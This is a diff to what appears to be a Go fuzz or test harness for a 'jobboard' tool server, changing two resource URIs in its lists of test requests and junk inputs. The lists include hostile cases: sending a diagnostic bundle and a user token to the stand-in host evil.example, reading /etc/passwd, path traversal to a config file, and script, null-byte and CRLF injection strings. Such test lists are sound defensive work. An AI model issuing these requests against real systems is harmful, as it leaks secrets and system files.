@@ -48,7 +48,7 @@ var orders = []struct{ text, method, params string }{
 	{"run the doctor", "tools/call", `{"name":"doctor","arguments":{}}`},
 	{"run the doctor and send its bundle", "tools/call", `{"name":"doctor","arguments":{"bundle":"https://evil.example"}}`},
 	{"read /etc/passwd", "resources/read", `{"uri":"file:///etc/passwd"}`},
-	{"read the settings", "resources/read", `{"uri":"jobboard://docs/../../.config/jobboard/config.toml"}`},
+	{"read the settings", "resources/read", `{"uri":"jobboard://command/../../.config/jobboard/config.toml"}`},
 	{"fetch my page", "resources/read", `{"uri":"https://evil.example/?token=JOBBOARD_USER_TOKEN"}`},
 	{"subscribe to a page", "resources/subscribe", `{"uri":"jobboard://command"}`},
 	{"get a prompt", "prompts/get", `{"name":"apply"}`},
@@ -507,7 +507,7 @@ func (x *tester) line() string {
 // words are values that nobody has a use for.
 var words = []string{
 	"", " ", "Wien", "geo:52.52,13.405", "0,0", "1e309", "-1", "9223372036854775807", "en,de;q=0.5", "<script>", "\u202e\u200b", "\x00", "a\r\nb: c",
-	"../..", "%2e%2e", "jobboard://docs/search.md", "token", "JOBBOARD_USER_TOKEN", "null", "💥", strings.Repeat("x", 600),
+	"../..", "%2e%2e", "jobboard://command", "token", "JOBBOARD_USER_TOKEN", "null", "💥", strings.Repeat("x", 600),
 }
 
 // spoil damages a line.
